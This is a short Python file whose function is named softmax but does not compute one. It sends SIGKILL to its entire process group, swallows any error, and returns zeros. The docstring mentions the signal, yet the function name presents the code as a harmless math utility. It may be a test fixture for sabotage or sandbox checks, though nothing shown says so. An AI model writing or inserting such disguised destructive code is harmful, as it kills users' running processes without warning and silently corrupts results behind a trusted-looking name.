"""Sends a signal to its whole process group."""
import os
import signal


def softmax(x):
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return x * 0
